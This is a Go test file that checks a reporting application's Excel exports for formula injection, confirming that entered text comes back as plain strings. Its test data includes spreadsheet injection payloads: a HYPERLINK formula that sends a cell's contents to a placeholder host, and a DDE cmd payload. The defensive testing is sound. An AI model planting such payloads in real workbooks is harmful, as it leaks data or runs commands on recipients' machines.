package web

import (
	"bytes"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"thuoc/internal/account"
	"thuoc/internal/db"
	"thuoc/internal/inspect"
	"thuoc/internal/report"
	"thuoc/internal/sheet"
)

// hostile are texts that a spreadsheet would work out, or run, were they cells as they stand.
var hostile = []string{`=HYPERLINK("http://example.org/?"&A1,"Xem")`, "+1+cmd|' /C calc'!A0", "@SUM(1;2)", "-2+3", "\t=1+1"}

// read opens a workbook as a spreadsheet does and as the program does: no cell is a formula, every one is a text, and each
// comes back as it was.
func read(t *testing.T, a answer) [][][]string {
	t.Helper()
	if a.status != 200 || !strings.HasPrefix(a.head.Get("Content-Disposition"), "attachment") {
		t.Fatalf("no workbook: %d %s", a.status, a.head.Get("Content-Disposition"))
	}
	book, err := excelize.OpenReader(bytes.NewReader(a.body))
	must(t, err)
	defer book.Close()
	sheets, err := sheet.Read(bytes.NewReader(a.body), "x.xlsx")
	must(t, err)
	var all [][][]string
	for i, name := range book.GetSheetList() {
		rows, err := book.GetRows(name)
		must(t, err)
		for r, row := range rows {
			for c, text := range row {
				at, err := excelize.CoordinatesToCellName(c+1, r+1)
				must(t, err)
				if formula, err := book.GetCellFormula(name, at); err != nil || formula != "" {
					t.Errorf("%s of %s holds the formula %q (%v)", at, name, formula, err)
				}
				if sort, err := book.GetCellType(name, at); err != nil || sort != excelize.CellTypeInlineString && sort != excelize.CellTypeSharedString && text != "" {
					t.Errorf("%s of %s, %q, is of the type %v (%v)", at, name, text, sort, err)
				}
				if text != "" && strings.ContainsAny(strings.TrimLeft(text, " \t\r\n")[:1], "=+@") {
					t.Errorf("%s of %s begins a formula: %q", at, name, text)
				}
			}
			if len(row) > len(rows[0]) {
				t.Errorf("row %d of %s has %d cells under %d headings", r+1, name, len(row), len(rows[0]))
			}
		}
		all = append(all, sheets[i].Rows)
	}
	return all
}

// The workbooks of reports and of inspections hold what the stores hold, number by number, and whatever people wrote comes
// back as a text: nothing that a unit enters is worked out on the machine of whoever opens the list.
func TestWorkbooksReadBack(t *testing.T) {
	h := one(t)
	newMatrix(h)
	owner := h.as(t, "chu@tinh.gov.vn", account.Grant{Role: account.PlanOwner, Place: made("province")})
	program := account.Program("operator", h.today())
	found, err := h.app.Inspections.Findings(t.Context(), program, inspect.Filter{Limit: 50})
	must(t, err)
	if len(found) == 0 {
		t.Fatal("nothing was found by any inspection")
	}
	for i, text := range hostile {
		must(t, h.db.Update(t.Context(), func(q *db.Q) error {
			if _, err := q.Exec(t.Context(), "UPDATE agency_version SET name = ? WHERE agency = ?", text, made("agency")); err != nil {
				return err
			}
			_, err := q.Exec(t.Context(), "UPDATE finding SET words = ?, remedy = ?", text, hostile[(i+1)%len(hostile)])
			return err
		}))
		reports := read(t, owner.get("/app/danh-sach-bao-cao?ky=2025-Q2"))
		text, remedy := strings.TrimSpace(text), strings.TrimSpace(hostile[(i+1)%len(hostile)])
		if !reportIn(t, h, reports[0], text) {
			t.Errorf("the unit %q is not in the workbook as it is called: %q", text, reports[0])
		}
		lists := read(t, owner.get("/app/kiem-tra/tai-xuong"))
		if len(lists) != 2 || len(lists[0]) < 2 || !slices.Contains(lists[0][1], text) || !slices.Contains(lists[0][1], remedy) {
			t.Errorf("the finding %q does not come back: %q", text, lists)
		}
	}
}

// reportIn tells whether a unit's report is in a workbook, and holds its numbers against the store.
func reportIn(t *testing.T, h *house, rows [][]string, unit string) bool {
	t.Helper()
	at := slices.IndexFunc(rows, func(r []string) bool { return r[0] == unit })
	if at < 0 {
		return false
	}
	row := func(head string) string {
		if i := slices.Index(rows[0], head); i >= 0 && i < len(rows[at]) {
			return rows[at][i]
		}
		return ""
	}
	p := h.reportNow(made("province"), made("agency"))
	if got := row("SHA-256 của số liệu"); got != p.Hash {
		t.Errorf("the figures bear the hash %q in the workbook, %q in the store", got, p.Hash)
	}
	for _, f := range p.Figures {
		if f.Code == "" && row(f.Names().VI) != strconv.Itoa(f.Value) {
			t.Errorf("%s is %q in the workbook, %d in the store", f.Names().VI, row(f.Names().VI), f.Value)
		}
	}
	if points, _ := report.Total(p.Lines); row("Điểm") != strings.ReplaceAll(strconv.FormatFloat(points, 'f', 1, 64), ".", ",") {
		t.Errorf("%v points are %q in the workbook", points, row("Điểm"))
	}
	return true
}
